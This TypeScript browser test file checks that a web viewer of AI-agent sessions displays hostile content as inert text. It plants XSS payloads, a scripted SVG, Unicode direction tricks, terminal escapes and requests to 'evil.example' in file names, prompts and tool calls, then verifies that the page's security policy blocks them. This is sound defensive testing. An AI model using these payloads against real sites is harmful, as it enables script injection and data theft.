import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page, Request } from 'playwright-core';
import { expect } from 'vitest';
import { PlayedSession } from '../conversation/played-session.ts';
import { gitIn } from '../support/git.ts';
import { commitAll, put, type Scene } from '../support/scene.ts';
import { browserTest, NARROW, picture, visit, WIDE, webScene } from './browser.ts';
import { type Named, namedIn, Stillness, sidewaysScroll, VIEWS } from './views.ts';

/** What would tell that something of it ran. */
const RUN = 'window.__pwned=(window.__pwned||0)+1';

/** Elements, handlers and links that no view of ours has: any of them in the document came out of a text. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<x-pwned onclick="${RUN}" style="position:fixed;inset:0">`,
  `"><svg/onload=${RUN}>`,
  `' onmouseover='${RUN}' x='`,
  `</title></textarea></style></script><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<a href="javascript:${RUN}">click</a>`,
  `[click](javascript:${RUN}) ![pixel](https://evil.example/p.png)`,
  `<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<form action="https://evil.example/"><input name=q autofocus onfocus="${RUN}"></form>`,
  `<link rel=stylesheet href="https://evil.example/x.css"><object data="https://evil.example/"></object>`,
  `{{constructor.constructor('${RUN}')()}}\${${RUN}}`,
].join(' ');

const TURNED = 'photo-\u202egnp.exe \u2066hidden\u2069 \u200b\u061c\ufeff\u{e0041}';
const ESCAPES = '\u001b]0;pwned\u0007\u001b[31mred\u001b[0m\u0000\u0008\u007f\u009b31m';
const LONG = 'W'.repeat(3000);
/** Without the one character that no line of a text has: with it, a file is none. */
const TEXT = `${MARKUP} ${TURNED} ${ESCAPES.replaceAll('\0', '')} ${LONG}\r\nsecond line\r\n\tthird`;
const EVERYTHING = `${ESCAPES} ${TEXT}`;

/** As names of files can be: no slash, and no more than 255 bytes. */
const NAMES = [
  `<img src=x onerror=${RUN}>.ts`,
  `<script>${RUN}<`,
  `"><x-pwned onclick=${RUN}>`,
  `javascript:${RUN}`,
  TURNED,
  '\u001b[31mred\u001b[0m.txt',
  'two\nlines\r\n.txt',
  `${'W'.repeat(240)}.txt`,
  ' leading and trailing ',
  '__proto__',
  'constructor',
  '-rf',
  '%2e%2e%2f.txt',
  '#hash?query=1&x.txt',
];

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60" onload="${RUN}"><script>parent.__pwned=1;top.__pwned=1</script><image href="https://evil.example/p.png"/><circle cx="30" cy="30" r="25" fill="teal"/></svg>`;

interface Played {
  readonly at: Scene;
  readonly named: Named;
}

/** A workspace in which every text that somebody can choose tries to be more than a text. */
const playHostile = async (): Promise<Played> => {
  const scene = webScene();
  const workspace = join(scene.workspace, `<img src=x onerror=${RUN}>\u202e`);
  mkdirSync(workspace);
  const at: Scene = { ...scene, workspace };
  gitIn(workspace, 'init', '-q', '-b', `<img-src=x-onerror=${RUN}>`.replaceAll(/[[\]|()]/g, ''));
  put(workspace, 'src/page.ts', 'one\ntwo\nthree\n');
  commitAll(workspace, TEXT);
  const session = new PlayedSession(at);
  const write = (path: string, content: string | Buffer): Promise<void> =>
    session.step('Write', { file_path: join(workspace, path), content: EVERYTHING }, () => put(workspace, path, content));
  await session.start();
  await session.prompt(`${MARKUP.slice(0, 80)} ${TURNED}\n${EVERYTHING}`);
  await write('src/page.ts', `one\r\n${TEXT}\nthree\n${MARKUP}\n`);
  await session.step(`mcp__<x-pwned>${TURNED}`, { command: EVERYTHING, description: EVERYTHING }, () => {
    for (const name of NAMES) writeFileSync(join(workspace, name), `${TEXT}\n`);
    writeFileSync(Buffer.concat([Buffer.from(`${workspace}/`), Buffer.from([0x3c, 0xff, 0x3e])]), 'no UTF-8 \xff');
    put(workspace, 'evil.svg', SVG);
    put(workspace, 'evil.html', MARKUP);
    put(workspace, 'evil.png', Buffer.from([0, 1, 2, 3]));
  });
  await session.answer(EVERYTHING);
  const place = session.last;
  await session.prompt(`left ${EVERYTHING}`);
  await session.step(
    'Bash',
    { command: EVERYTHING, description: EVERYTHING },
    () => {
      for (const name of NAMES.slice(0, 4)) writeFileSync(join(workspace, name), `changed\n${TEXT}${LONG}\n`);
      put(workspace, 'evil.svg', SVG.replace('onload', 'onclick'));
    },
    { agent_id: `<x-pwned>${TURNED}`, agent_type: MARKUP },
  );
  await session.answer(MARKUP);
  session.rewindTo(place);
  at.retake.json(workspace, 'rewind', 't2', '--yes');
  await session.prompt(`right ${EVERYTHING}`);
  await write('src/page.ts', `one\r\nright ${TEXT}\nthree\n`);
  await session.answer(MARKUP);
  at.retake.json(workspace, 'checkpoint', '--name', MARKUP.slice(0, 190), '--note', TEXT.slice(0, 9000));
  put(workspace, 'src/page.ts', `mine ${TEXT}\n`);
  return { at, named: namedIn(at, session.id, '<script>') };
};

const DIALOGS: string[] = [];

/** Notes what the policy refuses, from before anything of the page runs. */
const WATCH = `
  window.__refused = [];
  addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => window.__refused.push(effectiveDirective + ' ' + blockedURI));
`;

/** What is on the page that only a text could have asked for, or that runs, or hides something. */
const HARM = `(() => {
  const found = [];
  if (window.__pwned !== undefined) found.push('it ran: ' + window.__pwned);
  for (const refused of window.__refused) found.push('refused: ' + refused);
  const foreign = 'x-pwned, iframe, frame, object, embed, base, marquee, form[action], meta[http-equiv], img[src="x"], [srcdoc], [formaction], body style, body link';
  const handlers = '[onerror], [onload], [onclick], [onfocus], [onmouseover]';
  const links = '[href^="javascript:" i], [src^="javascript:" i], [href*="evil.example"], [src*="evil.example"], [href^="data:" i]';
  for (const element of document.querySelectorAll([foreign, handlers, links].join(', '))) found.push('element: ' + element.outerHTML.slice(0, 200));
  for (const script of document.scripts) if (!/^\\/assets\\//.test(script.getAttribute('src') ?? '')) found.push('script: ' + script.outerHTML.slice(0, 200));
  const unseen = /[\\u0000-\\u0008\\u000b\\u000c\\u000e-\\u001f\\u007f-\\u009f\\u061c\\u200b-\\u200f\\u202a-\\u202e\\u2066-\\u2069\\ufeff\\u{e0000}-\\u{e007f}]/u;
  for (const [what, text] of [['text', document.body.innerText], ['title', document.title]]) {
    const at = text.search(unseen);
    if (at >= 0) found.push('unseen character in ' + what + ': ' + JSON.stringify(text.slice(Math.max(0, at - 40), at + 20)));
  }
  return found;
})()`;

const harmOn = async (page: Page): Promise<string[]> => {
  const found = await page.evaluate<string[]>(HARM);
  const frames = page.frames().length === 1 ? [] : ['a frame'];
  return [...found, ...frames, ...DIALOGS.splice(0)];
};

/** Shows what a view keeps folded. */
const unfold = (page: Page): Promise<void> =>
  page.evaluate(`
    for (const button of [...document.querySelectorAll('main button')]) if (/^Show /.test(button.textContent.trim())) button.click();
    for (const one of document.querySelectorAll('main details')) one.open = true;
  `);

browserTest(
  '[SEC] [UI-4] whatever files, prompts, names, notes and diffs hold is shown as text in every view, and nothing of it runs',
  async () => {
    const { at, named } = await playHostile();
    const visiting = await visit(at);
    const { page, context } = visiting;
    page.on('dialog', (dialog) => {
      DIALOGS.push(`a dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    await context.addInitScript(WATCH);
    const stillness = new Stillness(page);
    const harm: string[] = [];
    const silent: string[] = [];
    for (const { name, path } of VIEWS) {
      await page.setViewportSize(WIDE);
      await stillness.open(visiting, path(named));
      await unfold(page);
      await stillness.come();
      harm.push(...(await harmOn(page)).map((one) => `${name}: ${one}`));
      await picture(visiting, `hostile-${name}`);
      await page.setViewportSize(NARROW);
      await stillness.come();
      const sideways = await sidewaysScroll(page);
      if (sideways > 0) harm.push(`${name}: scrolls ${sideways} px sideways at ${NARROW.width} px`);
      harm.push(...(await harmOn(page)).map((one) => `${name}, narrow: ${one}`));
      await picture(visiting, `hostile-${name}-narrow`);
      // Where a text of the workspace belongs, it is there to be read.
      const shown = await page.evaluate<string>('document.querySelector("main").innerText');
      if (SHOWS.includes(name) && !/<(?:script|img|x-pwned)|photo-/.test(shown)) silent.push(name);
    }
    // Each file by itself: pictures among them, which are shown.
    await page.setViewportSize(WIDE);
    await stillness.open(visiting, `/s/${named.session}/changes`);
    for (const file of [...NAMES, 'evil.svg', 'evil.html', 'evil.png']) {
      await stillness.go(visiting, `/s/${named.session}/changes?path=${encodeURIComponent(file)}`);
      if (file === 'evil.svg') {
        await page.getByRole('radio', { name: 'Picture' }).check();
        await page.locator('main img').first().waitFor({ state: 'attached' });
        await stillness.come();
      }
      harm.push(...(await harmOn(page)).map((one) => `${JSON.stringify(file)}: ${one}`));
      if (file.startsWith('evil')) await picture(visiting, `hostile-${file}`);
    }
    expect(harm).toEqual([]);
    expect(silent).toEqual([]);
  },
);

/** Views that show something of what the workspace holds. */
const SHOWS = VIEWS.map(({ name }) => name).filter(
  (name) => !['search-empty', 'settings', 'nothing-here', 'no-such-session', 'git'].includes(name),
);

browserTest(
  '[SEC] the policy of the page refuses what would get into it all the same: scripts, handlers, styles, frames, other hosts',
  async () => {
    const at = webScene();
    put(at.workspace, 'a.txt', 'a\n');
    at.retake.json(at.workspace, 'checkpoint');
    const { context, at: address, url } = await visit(at);
    await context.addInitScript(WATCH);
    // A page of its own: what is refused is told in its console too, which is as it should be here.
    const page = await context.newPage();
    const left: Request[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith(url)) left.push(request);
    });
    await page.goto(address());
    await page.getByRole('heading', { name: 'Sessions' }).waitFor();
    const refusedBy = async (work: string): Promise<string[]> => {
      await page.evaluate(
        `(async () => { window.__refused.length = 0; try { ${work} } catch (error) { window.__refused.push(String(error)); } })()`,
      );
      // Told of a moment later.
      await expect.poll(() => page.evaluate('window.__refused.length'), { timeout: 300_000, message: work }).toBeGreaterThan(0);
      return page.evaluate<string[]>('window.__refused');
    };
    const append = (html: string): string => `
    const parent = document.createElement('div');
    parent.innerHTML = ${JSON.stringify(html)};
    document.body.append(parent);`;
    const script = (content: string): string => `
    const script = document.createElement('script');
    ${content};
    document.body.append(script);`;
    const attempts: [string, RegExp][] = [
      [script(`script.textContent = '${RUN}'`), /^script-src-elem inline$/],
      [script(`script.src = 'https://evil.example/x.js'`), /^script-src-elem https:\/\/evil\.example/],
      [script(`script.src = 'data:text/javascript,${RUN}'`), /^script-src-elem data$/],
      [`${append(`<button id="evil" onclick="${RUN}">x</button>`)} document.getElementById('evil').click();`, /^script-src-attr inline$/],
      [append(`<img src="x" onerror="${RUN}">`), /^script-src-attr inline$/],
      [append('<p style="position:fixed">x</p>'), /^style-src-attr inline$/],
      [append('<style>body { display: none }</style>'), /^style-src-elem inline$/],
      [append('<iframe src="/sign-in"></iframe>'), /^frame-src/],
      [append('<img src="https://evil.example/p.png">'), /^img-src https:\/\/evil\.example/],
      [append('<object data="/sign-in"></object>'), /^object-src/],
      [
        append('<form action="/api/sign-out" method="post" id="send"></form>').concat("document.getElementById('send').submit();"),
        /^form-action/,
      ],
      // Not in the moment in which the test itself is let in.
      [`await new Promise((resolve) => setTimeout(resolve)); eval('${RUN}')`, /^(?:script-src eval|EvalError)/],
      [`await fetch('https://evil.example/')`, /^connect-src https:\/\/evil\.example/],
      [`new Worker('data:text/javascript,1')`, /^(?:worker-src|script-src|SecurityError)/],
    ];
    for (const [work, refusal] of attempts) expect(await refusedBy(work), work.trim()).toContainEqual(expect.stringMatching(refusal));
    expect(await page.evaluate('window.__pwned')).toBe(undefined);
    // What is looked for in every view would have been found.
    const found = (await harmOn(page)).join('\n');
    for (const one of ['refused: ', 'script: ', 'element: <iframe', 'element: <object', 'element: <form', 'a frame'])
      expect(found).toContain(one);
    expect(new Set(left.map((request) => request.failure()?.errorText))).toEqual(new Set(['csp']));
  },
);
